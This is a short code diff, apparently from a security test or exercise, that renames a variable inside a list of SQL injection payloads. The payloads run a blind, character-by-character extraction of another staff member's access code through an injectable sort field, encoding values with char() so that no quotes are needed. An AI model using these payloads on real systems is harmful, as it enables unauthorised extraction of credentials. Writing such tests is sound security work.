@@ -2,7 +2,7 @@ const mira = await signIn('N1042');
 const [victim] = shuffle(sql("SELECT staff_no FROM staff WHERE id <> 'mira-castell'"));
 const guess = pick(['a', 'g', 'q', 'w']);
 const payloads = [
-  `(CASE WHEN (SELECT access_code FROM staff WHERE staff_no=char(${[...victim.staff_no].map((sign) => sign.charCodeAt(0)).join(',')})) >= char(${guess.charCodeAt(0)}) THEN name ELSE extension END)`,
+  `(CASE WHEN (SELECT access_code FROM staff WHERE staff_no=char(${[...victim.staff_no].map((character) => character.charCodeAt(0)).join(',')})) >= char(${guess.charCodeAt(0)}) THEN name ELSE extension END)`,
   'name LIMIT 1',
   '(SELECT count(*) FROM shifts), name',
 ];
